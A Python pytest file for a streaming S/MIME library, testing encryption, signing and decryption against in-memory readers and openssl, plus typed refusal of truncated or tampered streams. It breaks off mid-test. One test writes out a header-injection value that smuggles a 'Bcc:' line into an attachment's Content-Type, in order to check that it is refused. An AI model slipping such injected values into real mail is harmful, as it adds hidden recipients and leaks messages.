"""Streaming S/MIME (securemail.stream.smime and the writers under it).

* What the streaming recipes write, the in-memory readers (``securemail.smime.decrypt``,
  ``read``, ``verify``) and ``openssl cms`` read, attachments byte for byte;
* ``decrypt_stream`` reads what openssl streams and what the in-memory encryptor writes;
* every way a stream can be damaged gives the typed error, no byte in the sink and nothing
  left in the spool directory;
* memory stays bounded while 256 MiB pass through (``tracemalloc`` peak, never time);
* the writers are state machines, and an abandoned stream never gets its tail.

Messages are taken apart here with the standard library's parser and a small BER walker
of its own, not with securemail.wire or securemail.stream.ber, so that the code under test
does not check itself.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import email.parser
import email.policy
import hashlib
import io
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

import pki
import pytest
from asn1crypto import cms
from cryptography import x509
from interop.test_corpus_smime import CASES as CORPUS_CASES
from interop.test_corpus_smime import Case as CorpusCase
from interop.test_corpus_smime import _keys as corpus_keys
from interop.tools import OpenSSL, Workspace

from securemail import smime, wire
from securemail.compose import MessageBuilder
from securemail.errors import (
    AlreadyFinalized,
    DecryptionError,
    EmbeddedCiphertextError,
    HeaderInjectionError,
    InputError,
    MalformedMessageError,
    NotARecipientError,
    RecipientError,
    SecureMailError,
    SizeLimitExceeded,
    UnauthenticatedContentError,
)
from securemail.keys import Identity, Recipient
from securemail.policy import DEFAULT, ContentCipher, Policy
from securemail.results import DecryptResult, SignatureStatus, VerifyResult
from securemail.smime import MODERN
from securemail.smime.enveloped import EnvelopeRecipient, decrypt_envelope
from securemail.stream import smime as streaming
from securemail.stream.base import Sink, Writer
from securemail.stream.cms import DetachedSignatureWriter, EnvelopeWriter
from securemail.stream.encoding import Base64Writer, CrlfWriter
from securemail.stream.message import LEGACY_DISPLAY_LIMIT
from securemail.stream.mime import MultipartWriter, StreamedAttachment
from stream.helpers import (
    DiscardingSink,
    FailingSource,
    MiB,
    PatternSource,
    RecordingSink,
    as_in_memory,
    decrypted_from_pipe,
    noise,
    open_fds,
    traced_peak,
)

SUBJECT = "Quartalsbericht: Grüße aus Köln"
TEXT = "The figures are attached.\nZweite Zeile: déjà vu.\n"
SENDER, TO = "alice@example.com", ("bob@example.com",)

GCM, CBC = "gcm", "cbc"
CIPHER_NAME = {GCM: "aes-256-gcm", CBC: "aes-256-cbc"}


# --- people -------------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class People:
    """The shared test PKI: ``rsa`` is alice (the sender), ``p256`` carol, ``p384`` dave,
    ``rsa3072`` bob."""

    pki: pki.PKI

    def issued(self, name: str) -> pki.Issued:
        return self.pki.users[name]

    def identity(self, name: str) -> Identity:
        return pki.identity(self.issued(name), self.pki.intermediate)

    def recipient(self, name: str, cipher: str) -> Recipient:
        """A recipient known to read AES-GCM (``MODERN``), or not known to (the default
        profile then picks AES-256-CBC)."""
        return Recipient(self.issued(name).cert, capabilities=MODERN if cipher == GCM else None)

    @property
    def trust(self) -> list[x509.Certificate]:
        return [self.pki.root.cert]

    @property
    def intermediates(self) -> list[x509.Certificate]:
        return [self.pki.intermediate.cert]


@pytest.fixture(scope="module")
def people() -> People:
    return People(pki.shared_pki())


@pytest.fixture(scope="module")
def openssl(openssl_bin: str, tmp_path_factory: pytest.TempPathFactory, people: People) -> OpenSSL:
    """openssl in a workspace holding the root and every user's ``name.pem``/``name.key``."""
    work = Workspace(tmp_path_factory.mktemp("openssl"))
    work.certificates("root.pem", people.pki.root.cert)
    for name, issued in people.pki.users.items():
        work.identity(name, issued)
    return OpenSSL(openssl_bin, work)


# --- sinks and sources --------------------------------------------------------------------------


class TrickleSource:
    """``data`` handed out at most ``step`` bytes per read, as a slow socket does."""

    def __init__(self, data: bytes, step: int) -> None:
        self._data = io.BytesIO(data)
        self._step = step

    def readinto(self, buffer: bytearray | memoryview) -> int:
        return self._data.readinto(memoryview(buffer)[: self._step])


# --- messages and attachments --------------------------------------------------------------------


def text_message() -> EmailMessage:
    return pki.message(sender=SENDER, to=TO, subject=SUBJECT, text=TEXT)


@dataclasses.dataclass(frozen=True)
class AttachedFile:
    """A file to stream: read from ``path`` (the name on disk is the filename) or, without
    one, from a file object with ``filename`` given."""

    filename: str
    data: bytes
    path: Path | None = None

    def streamed(self) -> StreamedAttachment:
        if self.path is not None:
            return StreamedAttachment(self.path, content_type="application/octet-stream")
        return StreamedAttachment(
            io.BytesIO(self.data), filename=self.filename, content_type="application/octet-stream"
        )


SIZES = (0, 1, 56, 57, 58, 64 * 1024 - 1, 64 * 1024, 64 * 1024 + 1, 3 * MiB + 5)
"""Base64 line edges (57 bytes per line), the writers' chunk size, and a few MiB."""


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> tuple[AttachedFile, ...]:
    """One file per size, read alternately from a path and from a file object; two of them
    with non-ASCII names (one on disk, one given)."""
    directory = tmp_path_factory.mktemp("attachments")
    made = []
    for index, size in enumerate(SIZES):
        data = noise(size, size)
        special = {2: "Prüfbericht März (Übersicht).bin", 3: "résumé «final».bin"}
        name = special.get(index, f"file-{size}.bin")
        if index % 2 == 0:
            path = directory / name
            path.write_bytes(data)
            made.append(AttachedFile(name, data, path))
        else:
            made.append(AttachedFile(name, data))
    return tuple(made)


def streamed(files: tuple[AttachedFile, ...]) -> list[StreamedAttachment]:
    """Fresh attachments (a file object can be read only once)."""
    return [f.streamed() for f in files]


def parse(data: bytes) -> EmailMessage:
    message = email.parser.BytesParser(policy=email.policy.default).parsebytes(data)
    assert isinstance(message, EmailMessage)
    return message


def fingerprint(data: bytes) -> tuple[int, str]:
    """Length and SHA-256 of ``data``: compared instead of MiB of bytes in failure output."""
    return len(data), hashlib.sha256(data).hexdigest()


def attachments_of(message: EmailMessage) -> list[tuple[str | None, tuple[int, str]]]:
    return [
        (part.get_filename(), fingerprint(part.get_payload(decode=True) or b""))
        for part in message.iter_attachments()
    ]


def expected_attachments(files: tuple[AttachedFile, ...]) -> list[tuple[str, tuple[int, str]]]:
    return [(f.filename, fingerprint(f.data)) for f in files]


def plain_text(message: EmailMessage) -> str:
    body = message.get_body(("plain",))
    assert body is not None, "no text/plain part"
    return str(body.get_content()).replace("\r\n", "\n")


def check_message(data: bytes, files: tuple[AttachedFile, ...]) -> EmailMessage:
    """``data`` is the message sent: its headers (the Subject restored from the protected
    copy), its text, and every file byte for byte under its name."""
    message = parse(data)
    assert message["Subject"] == SUBJECT
    assert message["From"] == SENDER
    assert message["To"] == ", ".join(TO)
    assert plain_text(message) == TEXT
    assert attachments_of(message) == expected_attachments(files)
    return message


def check_base64_lines(body: bytes) -> None:
    """RFC 2045 6.8: lines of 76 characters (the last one shorter), each ending in CRLF."""
    assert body.endswith(b"\r\n")
    assert b"\n" not in body.replace(b"\r\n", b""), "a bare LF or CR"
    lines = body[:-2].split(b"\r\n")
    assert {len(line) for line in lines[:-1]} == {76}
    assert 0 < len(lines[-1]) <= 76


def split_message(data: bytes) -> tuple[bytes, bytes]:
    """(header section, body) at the first empty line, CRLF or LF."""
    for marker in (b"\r\n\r\n", b"\n\n"):
        head, found, body = data.partition(marker)
        if found:
            return head, body
    raise AssertionError("no empty line after the header section")


def content_summary(data: bytes) -> tuple[list[tuple[str, str]], list[tuple[str, object]]]:
    """What a reader sees: the header fields, and each leaf part's type and decoded content."""
    message = parse(data)
    leaves = [
        (part.get_content_type(), fingerprint(part.get_payload(decode=True) or b""))
        for part in message.walk()
        if not part.is_multipart()
    ]
    return [(name, str(value)) for name, value in message.items()], leaves


# --- running the recipes -------------------------------------------------------------------------


def stream_encrypt(
    message: EmailMessage | bytes,
    recipients: list[Recipient],
    *,
    attachments: list[StreamedAttachment] | None = None,
    **options: object,
) -> bytes:
    sink = io.BytesIO()
    streaming.encrypt(sink, message, recipients, attachments=attachments or [], **options)
    return sink.getvalue()


def stream_decrypt(
    data: bytes, identity: Identity, **options: object
) -> tuple[bytes, streaming.StreamDecryptResult]:
    sink = RecordingSink()
    result = streaming.decrypt_stream(io.BytesIO(data), sink, identity, **options)
    return sink.data, result


def refused(
    data: bytes,
    identity: Identity,
    error: type[SecureMailError],
    spool: Path,
    *,
    policy: Policy = DEFAULT,
) -> SecureMailError:
    """``decrypt_stream`` of ``data`` raises ``error``, writes nothing to its sink, and
    leaves no file in ``spool`` and no file descriptor open."""
    sink = RecordingSink()
    before = open_fds()
    with pytest.raises(error) as info:
        streaming.decrypt_stream(io.BytesIO(data), sink, identity, policy=policy, spool_dir=spool)
    assert sink.writes == [], "something was written to the sink"
    assert list(spool.iterdir()) == []
    assert open_fds() == before, "the spool file was left open"
    return info.value


# --- a BER walker, independent of securemail.stream.ber -----------------------------------------


def _header(der: bytes, position: int) -> tuple[int, int, int | None]:
    """(identifier, header length, content length or None for indefinite) at ``position``."""
    identifier, first = der[position], der[position + 1]
    if first == 0x80:
        return identifier, 2, None
    if first < 0x80:
        return identifier, 2, first
    count = first & 0x7F
    return identifier, 2 + count, int.from_bytes(der[position + 2 : position + 2 + count], "big")


def _skip(der: bytes, position: int) -> int:
    """The position after the element at ``position``."""
    _, head, length = _header(der, position)
    position += head
    if length is not None:
        return position + length
    while der[position : position + 2] != b"\0\0":
        position = _skip(der, position)
    return position + 2


def _octets(der: bytes, position: int, segments: list[tuple[int, int]]) -> int:
    """Collect the (offset, length) of every primitive piece of the OCTET STRING at
    ``position``; return the position after it."""
    identifier, head, length = _header(der, position)
    position += head
    if not identifier & 0x20:
        assert length is not None
        segments.append((position, length))
        return position + length
    if length is None:
        while der[position : position + 2] != b"\0\0":
            position = _octets(der, position, segments)
        return position + 2
    end = position + length
    while position < end:
        position = _octets(der, position, segments)
    return end


@dataclasses.dataclass(frozen=True)
class Layout:
    """Where things are in an (Auth)EnvelopedData, DER or BER."""

    recipient_infos: tuple[int, int]
    """(offset, end) of the RecipientInfos SET."""
    segments: tuple[tuple[int, int], ...]
    """(offset, length) of each piece of the encrypted content."""
    mac: int | None
    """Offset of the ``mac`` OCTET STRING (its header), for AuthEnvelopedData."""

    @property
    def ciphertext_size(self) -> int:
        return sum(length for _, length in self.segments)

    def ciphertext_offset(self, index: int) -> int:
        """Where byte ``index`` of the ciphertext (negative: from the end) is."""
        index %= self.ciphertext_size
        for offset, length in self.segments:
            if index < length:
                return offset + index
            index -= length
        raise AssertionError("unreachable")

    @property
    def mac_content(self) -> int:
        assert self.mac is not None
        return self.mac + 2


def layout(der: bytes) -> Layout:
    _, head, _ = _header(der, 0)  # ContentInfo
    position = _skip(der, head)  # contentType
    authenticated = der[head:position] == cms.ContentType("authenticated_enveloped_data").dump()
    position += _header(der, position)[1]  # [0] EXPLICIT
    position += _header(der, position)[1]  # (Auth)EnvelopedData
    position = _skip(der, position)  # version
    if der[position] == 0xA0:
        position = _skip(der, position)  # originatorInfo
    infos = (position, _skip(der, position))
    _, head, info_length = _header(der, infos[1])  # (Auth)EncryptedContentInfo
    position = _skip(der, _skip(der, infos[1] + head))  # contentType, algorithm
    segments: list[tuple[int, int]] = []
    position = _octets(der, position, segments)
    if info_length is None:
        assert der[position : position + 2] == b"\0\0"
        position += 2
    mac = None
    if authenticated:
        if der[position] == 0xA1:
            position = _skip(der, position)  # authAttrs
        assert der[position : position + 2] == b"\x04\x10", "no 16-byte mac where expected"
        mac = position
    found = Layout(infos, tuple(segments), mac)
    # The walker must agree with asn1crypto about what the ciphertext is.
    assert b"".join(der[o : o + n] for o, n in segments) == pki.ciphertext_of(der)
    return found


# === 1. streamed encryption equals what the in-memory reader decrypts ============================


@pytest.mark.parametrize("recipient", ["rsa", "p256"])
@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_encrypt_with_streamed_files_decrypts_in_memory(
    people: People, files: tuple[AttachedFile, ...], cipher: str, recipient: str
) -> None:
    data = stream_encrypt(
        text_message(), [people.recipient(recipient, cipher)], attachments=streamed(files)
    )
    head, body = split_message(data)
    assert b"Subject: ...\r\n" in head, "the Subject outside must be the obscured one"
    check_base64_lines(body)
    assert SUBJECT.encode() not in data

    identity = people.identity(recipient)
    decrypted = smime.decrypt(data, identity)
    assert decrypted.content_cipher == CIPHER_NAME[cipher]
    assert decrypted.authenticated == (cipher == GCM)
    assert "Subject" in decrypted.protected_headers
    check_message(decrypted.data, files)

    # decrypt_stream reads it to exactly what the in-memory reader gives.
    released, result = stream_decrypt(data, identity)
    assert released == decrypted.data
    assert result.content_cipher == CIPHER_NAME[cipher]
    assert result.authenticated == (cipher == GCM)
    assert result.protected_headers == decrypted.protected_headers


@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_encrypt_to_three_recipients(
    people: People, files: tuple[AttachedFile, ...], cipher: str
) -> None:
    some = files[:5]
    names = ["rsa", "p256", "p384"]
    data = stream_encrypt(
        text_message(), [people.recipient(n, cipher) for n in names], attachments=streamed(some)
    )
    for name in names:
        decrypted = smime.decrypt(data, people.identity(name))
        assert decrypted.content_cipher == CIPHER_NAME[cipher]
        check_message(decrypted.data, some)
    with pytest.raises(NotARecipientError):
        smime.decrypt(data, people.identity("rsa3072"))


@pytest.mark.parametrize(
    ("cipher", "include_chain"),
    [(GCM, True), (CBC, False)],
    ids=["gcm-include-chain", "cbc-certificates"],
)
def test_sign_then_encrypt_reads_as_decrypted_and_verified(
    people: People, files: tuple[AttachedFile, ...], cipher: str, include_chain: bool
) -> None:
    data = stream_encrypt(
        text_message(),
        [people.recipient("p256", cipher)],
        attachments=streamed(files),
        signer=people.identity("rsa"),
        policy=DEFAULT.clone(include_chain=include_chain),
    )
    extra = [] if include_chain else people.intermediates
    for reader in ("p256", "rsa"):  # the recipient, and the sender's copy (encrypt to self)
        read = smime.read(
            data, identity=people.identity(reader), trust=people.trust, certificates=extra
        )
        assert [type(layer) for layer in read.layers] == [DecryptResult, VerifyResult]
        decrypted, signature = read.layers
        assert isinstance(decrypted, DecryptResult) and isinstance(signature, VerifyResult)
        assert decrypted.content_cipher == CIPHER_NAME[cipher]
        assert decrypted.signed
        assert signature.status is SignatureStatus.VERIFIED, signature.reason
        assert signature.signer == SENDER
        assert read.verified
        check_message(read.data, files)

    # Streamed decryption, then verification, gives the same message.
    released, _ = stream_decrypt(data, people.identity("p256"))
    assert released == smime.decrypt(data, people.identity("p256")).data
    verified = smime.verify(released, trust=people.trust, certificates=extra)
    assert verified.status is SignatureStatus.VERIFIED, verified.reason
    assert verified.data is not None
    check_message(verified.data, files)


def test_unusable_recipient_stops_before_anything_is_written(
    people: People, files: tuple[AttachedFile, ...]
) -> None:
    """Fail-closed, like the in-memory encrypt: the expired certificate is named, and the
    sink has not seen a byte."""
    expired = pki.issue(
        common_name="Old",
        email="old@example.com",
        key_type="p256",
        issuer=people.pki.intermediate,
        not_before=pki.NOW - dt.timedelta(days=30),
        not_after=pki.NOW - dt.timedelta(days=1),
    )
    sink = RecordingSink()
    recipients = [people.recipient("rsa", GCM), Recipient(expired.cert)]
    with pytest.raises(RecipientError) as info:
        streaming.encrypt(sink, text_message(), recipients, attachments=streamed(files))
    assert info.value.recipient == "old@example.com"
    assert sink.writes == []


def test_bad_attachment_field_is_refused_before_anything_is_written(
    people: People,
) -> None:
    """A Content-Type with a line break (header injection) is refused, like an unusable
    recipient, before the first byte goes out: a half-written message on an SMTP
    connection or in a file is left to clean up otherwise."""
    sink = RecordingSink()
    with pytest.raises(HeaderInjectionError):
        attachment = StreamedAttachment(
            io.BytesIO(b"data"), filename="a.bin", content_type="text/plain\r\nBcc: x@example.com"
        )
        streaming.encrypt(
            sink, text_message(), [people.recipient("rsa", GCM)], attachments=[attachment]
        )
    assert sink.writes == []
    with pytest.raises(InputError, match="type/subtype"):
        StreamedAttachment(io.BytesIO(b"data"), filename="a.bin", content_type="text plain")


def test_streamed_files_after_attachments_of_the_message(people: People) -> None:
    """A message that already has attachments (multipart/mixed from the builder) gets the
    streamed files after its own."""
    built = (
        MessageBuilder()
        .from_addr(SENDER)
        .to(*TO)
        .subject(SUBJECT)
        .text(TEXT)
        .attach(b"small and in memory", filename="small.bin")
        .build()
    )
    big = AttachedFile("big.bin", noise(100_000, 9))
    data = stream_encrypt(built, [people.recipient("rsa", GCM)], attachments=[big.streamed()])
    decrypted = smime.decrypt(data, people.identity("rsa"))
    assert attachments_of(parse(decrypted.data)) == [
        ("small.bin", fingerprint(b"small and in memory")),
        ("big.bin", fingerprint(big.data)),
    ]


# === 2. streamed signing ==========================================================================


@pytest.mark.parametrize("signer", ["rsa", "p256"])
def test_sign_verifies_with_securemail_and_openssl(
    people: People, files: tuple[AttachedFile, ...], openssl: OpenSSL, signer: str
) -> None:
    sender = {"rsa": SENDER, "p256": "carol@example.com"}[signer]
    sink = io.BytesIO()
    message = pki.message(sender=sender, to=TO, subject=SUBJECT, text=TEXT)
    policy = DEFAULT.clone(include_chain=True)
    streaming.sign(
        sink, message, people.identity(signer), attachments=streamed(files), policy=policy
    )
    data = sink.getvalue()

    assert parse(data).get_content_type() == "multipart/signed"
    result = smime.verify(data, trust=people.trust)
    assert result.status is SignatureStatus.VERIFIED, result.reason
    assert result.signer == sender
    assert result.data is not None
    assert attachments_of(parse(result.data)) == expected_attachments(files)
    assert parse(result.data)["Subject"] == SUBJECT

    path = openssl.workspace.write("signed.eml", data)
    content = openssl("cms", "-verify", "-purpose", "smimesign", "-CAfile", "root.pem", "-in", path)
    assert attachments_of(parse(content)) == expected_attachments(files)


def compose_bytes() -> bytes:
    """A whole message as ``securemail compose`` writes it (7-bit, CRLF)."""
    built = (
        MessageBuilder()
        .from_addr(SENDER)
        .to(*TO)
        .subject(SUBJECT)
        .text(TEXT)
        .attach(noise(200_000, 3), filename="report.bin")
        .build()
    )
    return wire.to_bytes(built)


def test_sign_stream_of_a_composed_message_verifies(people: People, openssl: OpenSSL) -> None:
    source = compose_bytes()
    sink = io.BytesIO()
    policy = DEFAULT.clone(include_chain=True)
    streamed_to = streaming.sign_stream(
        TrickleSource(source, 5000), sink, people.identity("rsa"), policy=policy
    )
    assert streamed_to.recipients == TO
    data = sink.getvalue()

    result = smime.verify(data, trust=people.trust)
    assert result.status is SignatureStatus.VERIFIED, result.reason
    assert result.data is not None
    assert split_message(result.data)[1] == split_message(source)[1]
    assert content_summary(result.data)[1] == content_summary(source)[1]
    assert parse(result.data)["Subject"] == SUBJECT

    path = openssl.workspace.write("signed-stream.eml", data)
    openssl("cms", "-verify", "-purpose", "smimesign", "-CAfile", "root.pem", "-in", path)


EIGHT_BIT = (
    b"From: alice@example.com\r\nTo: bob@example.com\r\nSubject: 8bit\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    + "Grüße aus Köln\r\n".encode()
)


def _sign_stream(people: People, source: bytes, sink: Sink) -> None:
    streaming.sign_stream(io.BytesIO(source), sink, people.identity("rsa"))


def _encrypt_stream_signed(people: People, source: bytes, sink: Sink) -> None:
    streaming.encrypt_stream(
        io.BytesIO(source),
        sink,
        [people.recipient("p256", GCM)],
        signer=people.identity("rsa"),
    )


SIGNING_RECIPES = {"sign_stream": _sign_stream, "encrypt_stream+signer": _encrypt_stream_signed}


@pytest.mark.parametrize("recipe", SIGNING_RECIPES)
def test_streamed_8bit_body_refused_by_the_signer(people: People, recipe: str) -> None:
    with pytest.raises(InputError, match="7-bit") as info:
        SIGNING_RECIPES[recipe](people, EIGHT_BIT, io.BytesIO())
    assert any(
        isinstance(entry.locals.get("self"), DetachedSignatureWriter) for entry in info.traceback
    ), "the refusal must come from the signer"


@pytest.mark.parametrize("recipe", SIGNING_RECIPES)
def test_streamed_lf_message_is_signed_verifiably_or_refused(people: People, recipe: str) -> None:
    """A composed message saved with LF line ends (any Unix text file): the streamed signer
    must either canonicalize the body or refuse it, never emit a signature that cannot
    verify (the signer refuses 8-bit for the same reason)."""
    source = compose_bytes().replace(b"\r\n", b"\n")
    sink = io.BytesIO()
    try:
        SIGNING_RECIPES[recipe](people, source, sink)
    except InputError:
        return
    result = smime.read(
        sink.getvalue(),
        identity=people.identity("p256"),
        trust=people.trust,
        certificates=people.intermediates,
    )
    signature = result.signatures[0]
    assert signature.status is SignatureStatus.VERIFIED, signature.reason


# === 3. encrypt_stream equals encrypt ===========================================================


@pytest.mark.parametrize(
    "prefix", [0, 9, -1], ids=["no-prefix", "prefix-in-header", "prefix-past-header"]
)
@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_encrypt_stream_equals_encrypt(people: People, cipher: str, prefix: int) -> None:
    source = compose_bytes()
    header_size = len(split_message(source)[0]) + 4
    cut = header_size + 1000 if prefix == -1 else prefix
    recipients = [people.recipient("rsa", cipher)]
    sink = io.BytesIO()
    streamed_to = streaming.encrypt_stream(
        TrickleSource(source[cut:], 3000), sink, recipients, prefix=source[:cut]
    )
    assert streamed_to.recipients == TO
    in_memory = smime.encrypt(source, recipients)

    identity = people.identity("rsa")
    ours = smime.decrypt(sink.getvalue(), identity)
    theirs = smime.decrypt(in_memory, identity)
    assert ours.content_cipher == theirs.content_cipher == CIPHER_NAME[cipher]
    assert ours.protected_headers == theirs.protected_headers
    assert content_summary(ours.data) == content_summary(theirs.data)
    assert parse(ours.data)["Subject"] == SUBJECT
    # The body passes through encrypt_stream unchanged.
    assert split_message(ours.data)[1] == split_message(source)[1]


# === 4. interop with openssl ===================================================================


@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_openssl_decrypts_what_we_stream(
    people: People, files: tuple[AttachedFile, ...], openssl: OpenSSL, cipher: str
) -> None:
    data = stream_encrypt(
        text_message(), [people.recipient("rsa", cipher)], attachments=streamed(files)
    )
    path = openssl.workspace.write(f"streamed-{cipher}.eml", data)
    assert CIPHER_NAME[cipher] in openssl.cms_print("-in", path)
    plaintext = openssl("cms", "-decrypt", "-recip", "rsa.pem", "-inkey", "rsa.key", "-in", path)

    issued = people.issued("rsa")
    opened = decrypt_envelope(pki.smime_der(data), issued.key, issued.cert)
    assert plaintext == opened.content
    entity = parse(plaintext)
    assert entity["Subject"] == SUBJECT  # the protected copy
    assert attachments_of(entity) == expected_attachments(files)


@pytest.fixture(scope="module")
def big_entity() -> bytes:
    """A MIME entity of about 3 MiB, as openssl would be asked to encrypt a file."""
    return (
        b"Content-Type: application/octet-stream\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="scan.bin"\r\n\r\n'
        + pki.base64_lines(noise(2 * MiB + 1234, 11))
    )


@pytest.mark.parametrize("cipher", ["-aes-256-gcm", "-aes-128-cbc"])
@pytest.mark.parametrize("recipient", ["rsa", "p256"])
def test_decrypt_stream_reads_openssl_stream_output(
    people: People, openssl: OpenSSL, big_entity: bytes, cipher: str, recipient: str
) -> None:
    path = openssl.workspace.write("entity.txt", big_entity)
    data = openssl("cms", "-encrypt", "-stream", "-binary", cipher, "-in", path, f"{recipient}.pem")
    released, result = stream_decrypt(data, people.identity(recipient))
    assert result.content_cipher == cipher.removeprefix("-")
    assert result.authenticated == cipher.endswith("gcm")
    assert result.size == len(big_entity)
    # openssl's message has its own header section; the entity's fields and body follow it.
    assert split_message(released)[1] == split_message(big_entity)[1]
    assert parse(released).get_filename() == "scan.bin"


def test_decrypt_stream_reads_an_lf_entity_as_decrypt_does(
    people: People, openssl: OpenSSL, big_entity: bytes
) -> None:
    """``openssl cms -encrypt -binary`` of a file saved with LF line ends (what a Unix
    user has): the in-memory reader canonicalizes the content and finds its header
    section; the streaming reader must read the same entity, not turn its header into
    body text."""
    path = openssl.workspace.write("entity-lf.txt", big_entity.replace(b"\r\n", b"\n"))
    data = openssl("cms", "-encrypt", "-stream", "-binary", "-aes-256-gcm", "-in", path, "rsa.pem")
    identity = people.identity("rsa")
    expected = smime.decrypt(data, identity).data
    assert parse(expected).get_filename() == "scan.bin"

    released, _ = stream_decrypt(data, identity)
    assert content_summary(released) == content_summary(expected)
    assert parse(released).get_filename() == "scan.bin"


@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_decrypt_stream_reads_in_memory_der(people: People, cipher: str) -> None:
    """Definite lengths throughout, and a ciphertext larger than the reader's chunk; read in
    small pieces and with some bytes already read (``prefix``)."""
    built = (
        MessageBuilder()
        .from_addr(SENDER)
        .to(*TO)
        .subject(SUBJECT)
        .text(TEXT)
        .attach(noise(MiB, 5), filename="big.bin")
        .build()
    )
    protected = smime.encrypt(built, [people.recipient("rsa", cipher)]).data
    identity = people.identity("rsa")
    expected = smime.decrypt(protected, identity).data

    assert stream_decrypt(protected, identity)[0] == expected
    sink = RecordingSink()
    streaming.decrypt_stream(
        TrickleSource(protected[700:], 1001), sink, identity, prefix=protected[:700]
    )
    assert sink.data == expected


@pytest.mark.parametrize("writer", ["streaming", "in-memory"])
def test_decrypt_stream_removes_legacy_display_of_a_large_message(
    people: People, tmp_path: Path, writer: str
) -> None:
    """A legacy display message (the Subject repeated at the top of the text, RFC 9788)
    with a 3 MiB attachment, more than decrypt_stream holds in memory: it reads byte for
    byte as smime.decrypt reads it, the element removed from the text, and the attachment
    streams through rather than being held whole. Both encryptors write legacy display."""
    compatible = DEFAULT.clone(legacy_display=True)
    attachment = noise(3 * MiB, 29)
    recipients = [people.recipient("rsa", GCM)]
    if writer == "streaming":
        big = AttachedFile("big.bin", attachment)
        data = stream_encrypt(
            text_message(), recipients, attachments=[big.streamed()], policy=compatible
        )
    else:
        built = (
            MessageBuilder()
            .from_addr(SENDER)
            .to(*TO)
            .subject(SUBJECT)
            .text(TEXT)
            .attach(attachment, filename="big.bin")
            .build()
        )
        data = smime.encrypt(built, recipients, policy=compatible).data
    identity = people.identity("rsa")
    expected = smime.decrypt(data, identity).data
    assert len(expected) > 2 * LEGACY_DISPLAY_LIMIT

    sink = RecordingSink()
    streaming.decrypt_stream(io.BytesIO(data), sink, identity, spool_dir=tmp_path)
    assert sink.data == expected
    message = parse(sink.data)
    assert message["Subject"] == SUBJECT
    assert plain_text(message) == TEXT
    assert [p.get_content() for p in message.iter_attachments()] == [attachment]
    assert max(len(w) for w in sink.writes) < 2 * LEGACY_DISPLAY_LIMIT, "held whole"


def _corpus_id(case: CorpusCase) -> str:
    return case.path + ("+weak" if case.weak else "")


@pytest.mark.parametrize("case", CORPUS_CASES, ids=_corpus_id)
def test_corpus_message_decrypts_as_in_memory(
    case: CorpusCase, interop_dir: Path, tmp_path: Path
) -> None:
    """Every S/MIME message of the shared corpus (see tests/interop/test_corpus_smime.py:
    NSS, Outlook, Thunderbird, OpenSSL, the RFC 4134 and LAMPS examples): what
    securemail.smime.decrypt reads, decrypt_stream reads to the same message (line ends
    aside), with the same cipher; what the in-memory reader refuses, decrypt_stream refuses
    too, with a typed error, writing nothing and leaving no spool file."""
    identity, _ = corpus_keys(case.keys)
    data = (interop_dir / case.path).read_bytes()
    policy = DEFAULT.clone(allow_weak_algorithms=case.weak)
    both = as_in_memory(
        lambda: smime.decrypt(data, identity, policy=policy),
        lambda sink: streaming.decrypt_stream(
            io.BytesIO(data), sink, identity, policy=policy, spool_dir=tmp_path
        ),
        tmp_path,
    )
    if both is not None:
        in_memory, result = both
        assert result.content_cipher == in_memory.content_cipher
        assert result.authenticated == in_memory.authenticated


def test_the_corpus_has_encrypted_messages() -> None:
    """The cross-check above reads messages that decrypt, not only refusals."""
    assert sum(c.expect.startswith("decrypted") for c in CORPUS_CASES) >= 25


# === 5. damaged streams: typed error, nothing released, nothing left ============================


@dataclasses.dataclass(frozen=True)
class Sealed:
    """A streamed message, its CMS DER and where things are in it."""

    cipher: str
    data: bytes
    der: bytes
    layout: Layout

    def with_der(self, der: bytes) -> bytes:
        return pki.with_smime_der(self.data, der)

    def flipped(self, offset: int) -> bytes:
        return self.with_der(pki.flip(self.der, offset))

    def cut(self, offset: int) -> bytes:
        return self.with_der(self.der[:offset])


@pytest.fixture(scope="module")
def seals(people: People) -> dict[str, Sealed]:
    """One streamed message per cipher, encrypted to alice, its ciphertext spanning
    several segments."""
    made = {}
    for cipher in (GCM, CBC):
        content = AttachedFile("data.bin", noise(2_500_000, 1))
        data = stream_encrypt(
            text_message(), [people.recipient("rsa", cipher)], attachments=[content.streamed()]
        )
        der = pki.smime_der(data)
        found = layout(der)
        assert len(found.segments) > 3
        made[cipher] = Sealed(cipher, data, der, found)
    return made


@pytest.fixture(params=[GCM, CBC])
def sealed(request: pytest.FixtureRequest, seals: dict[str, Sealed]) -> Sealed:
    return seals[request.param]


@pytest.fixture
def gcm(seals: dict[str, Sealed]) -> Sealed:
    return seals[GCM]


@pytest.fixture
def cbc(seals: dict[str, Sealed]) -> Sealed:
    return seals[CBC]


def test_undamaged_stream_decrypts(people: People, sealed: Sealed, tmp_path: Path) -> None:
    """The control for the damaged cases below: the same stream, untouched, and re-encoded
    from its DER, decrypts."""
    for data in (sealed.data, sealed.with_der(sealed.der)):
        released, result = stream_decrypt(data, people.identity("rsa"), spool_dir=tmp_path)
        assert parse(released)["Subject"] == SUBJECT
        assert result.content_cipher == CIPHER_NAME[sealed.cipher]
    assert list(tmp_path.iterdir()) == []


CUTS: dict[str, Callable[[Layout], int]] = {
    "cms-header": lambda _: 5,
    "recipient-infos": lambda found: sum(found.recipient_infos) // 2,
    "ciphertext-start": lambda found: found.ciphertext_offset(0),
    "ciphertext-middle": lambda found: found.ciphertext_offset(found.ciphertext_size // 2),
    "ciphertext-end": lambda found: found.ciphertext_offset(-1) + 1,
}


@pytest.mark.parametrize("where", CUTS)
def test_truncated_stream(people: People, sealed: Sealed, tmp_path: Path, where: str) -> None:
    data = sealed.cut(CUTS[where](sealed.layout))
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


@pytest.mark.parametrize("where", ["before-tag", "in-tag"])
def test_truncated_at_the_tag(people: People, gcm: Sealed, tmp_path: Path, where: str) -> None:
    offset = gcm.layout.mac_content + 8 if where == "in-tag" else gcm.layout.mac
